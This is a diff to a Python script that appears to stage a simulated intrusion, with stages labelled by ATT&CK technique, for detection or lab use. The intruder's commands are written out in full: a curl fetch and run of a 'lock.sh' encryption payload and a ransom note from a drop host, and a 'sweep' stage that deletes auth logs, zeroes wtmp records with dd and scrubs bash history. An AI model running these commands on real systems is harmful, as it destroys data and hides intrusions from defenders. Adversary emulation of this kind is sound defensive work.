@@ -29,7 +29,7 @@ def stage(ident: str, name: str, technique: str, source: str, account: str, **mo
 
 
 def reconnaissance() -> None:
-    """Friday night: a few guesses and a look at the site, under the threshold of most people."""
+    """Sunday evening: a few guesses and a look at the site, under the threshold of most people."""
     stage("recon", "abnormal_login", "T1110.001", GUESSER, "")
     for name in NAMES[:6]:
         guess(GUESSER, name, WORDS[:3])
@@ -54,7 +54,7 @@ def break_in() -> None:
         h.start()
     for h in hands:
         h.join()
-    while datetime.now(at(8, 3, 12).tzinfo) < at(8, 3, 12, 5):
+    while datetime.now(at(9, 3, 12).tzinfo) < at(9, 3, 12, 5):
         time.sleep(5)
     stage("first_login", "abnormal_login", "T1078.003", GUESSER, "deploy")
     t = Terminal(GUESSER, "deploy", ["deploy123", WEAK], who="intruder")
@@ -120,7 +120,7 @@ def root_by_sudo() -> None:
 
 
 def further() -> None:
-    """As root by the planted key: db01, the scan, the data, the renaming, and the broom."""
+    """As root by the planted key: db01, the scan, the data, the renaming."""
     t = Terminal(GUESSER, "root", key="attacker", who="intruder")
     stage("root_login", "lateral_movement", "T1021.004", GUESSER, "root")
     t.type("w; ip -br addr; cat /etc/hosts", 6)
@@ -140,26 +140,33 @@ def further() -> None:
     t.type(f"curl -s http://{DROP}/lock.sh -o /var/lib/.sysd/lock.sh", 5)
     t.type("sh -c 'unset HISTFILE; sh /var/lib/.sysd/lock.sh /srv/data'", 5)
     t.type(f"curl -s http://{DROP}/note.txt | tee /srv/data/README_RESTORE.txt > /root/README_RESTORE.txt", 6)
+    t.leave()
+
+
+def sweep() -> None:
+    """The broom, in a session that leaves no history of its own."""
+    t = Terminal(GUESSER, "root", key="attacker", who="intruder")
+    t.type("unset HISTFILE", 3)
     stage("log_cleaning", "exfiltration_encryption", "T1070.002", GUESSER, "root")
     t.type("ls -la /var/log", 5)
-    t.type("rm -f /var/log/auth.log.2.gz", 5)
+    t.type("rm -f /var/log/auth.log.1", 5)
     said = t.type("n=$(($(stat -c %s /var/log/wtmp) / 384)); echo records=$n", 5)
     record(act="wtmp", said=said)
-    t.type("dd if=/dev/zero of=/var/log/wtmp bs=384 seek=$((n-5)) count=4 conv=notrunc", 5)
+    t.type("dd if=/dev/zero of=/var/log/wtmp bs=384 seek=$((n-7)) count=6 conv=notrunc", 5)
     stage("history_cleaning", "exfiltration_encryption", "T1070.003", GUESSER, "root")
     t.type("sed -i '/lp.sh/d' /home/deploy/.bash_history", 5)
     t.type("rm -rf /tmp/.x", 5)
-    t.type("set +o history", 3)
-    t.type("last -n 5; history | wc -l", 5)
+    t.type("last -n 5", 5)
     t.leave()
 
 
 def night() -> list[Event]:
     """The intruder's events."""
     return [
-        (at(6, 21, 40, 12), reconnaissance),
-        (at(8, 2, 47, 30), break_in),
-        (at(8, 3, 17, 20), exploit),
-        (at(8, 3, 31, 5), root_by_sudo),
-        (at(8, 3, 55, 18), further),
+        (at(8, 21, 40, 12), reconnaissance),
+        (at(9, 2, 47, 30), break_in),
+        (at(9, 3, 17, 20), exploit),
+        (at(9, 3, 31, 5), root_by_sudo),
+        (at(9, 3, 55, 18), further),
+        (at(9, 4, 12, 40), sweep),
     ]
